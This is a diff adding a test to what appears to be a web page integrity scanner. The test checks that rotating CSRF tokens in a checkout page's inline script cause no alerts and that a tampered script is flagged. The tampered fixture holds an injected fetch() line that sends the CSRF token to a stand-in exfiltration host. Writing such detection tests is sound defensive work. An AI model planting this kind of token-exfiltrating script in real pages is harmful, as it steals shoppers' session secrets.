@@ -65,4 +65,29 @@ describe('failed loads and removals', () => {
       assert.notEqual(result.code, 3);
     }
   });
+
+  it('stays quiet when an inline script carries a fresh CSRF token and timestamp on every load', async () => {
+    const { installShop } = await import('../fixtures/shop.js');
+    installShop(s.site);
+    const withToken = (token: string, stamp: number) =>
+      s.site.set('shop.test', '/checkout', {
+        body: CHECKOUT_HTML.replace('</head>', `<script>window.csrf = { token: "${token}", issued: ${stamp} };</script></head>`),
+        headers: { 'content-security-policy': CSP, 'x-frame-options': 'DENY' },
+      });
+    withToken('a8Kd93Jf02Lq7Zm4Xv6Bn1Rt', 1732262400123);
+    for (let i = 0; i < 2; i++) {
+      await s.scan();
+      await s.cli('approve', '--all', '--by', 'alice'); // also settles what earlier tests left open
+    }
+    withToken('Pq2Wn8Ey5Ru1Ti9Oc4Xz7Mv3', 1732266000456);
+    const { json } = await s.scan();
+    assert.deepEqual(json.alerts, []);
+    withToken('Pq2Wn8Ey5Ru1Ti9Oc4Xz7Mv3', 1732266000456);
+    s.site.set('shop.test', '/checkout', {
+      body: CHECKOUT_HTML.replace('</head>', '<script>window.csrf = { token: "Zz9Yy8Xx7Ww6Vv5Uu4Tt3Ss2", issued: 1732269600789 }; fetch("http://exfil-csrf.test:{{PORT}}/t?" + window.csrf.token);</script></head>'),
+      headers: { 'content-security-policy': CSP, 'x-frame-options': 'DENY' },
+    });
+    const tampered = await s.scan();
+    assert.ok(tampered.json.alerts.some((a) => a.type === 'script.changed' && a.details.kind === 'inline'), JSON.stringify(tampered.json.alerts, null, 2));
+  });
 });
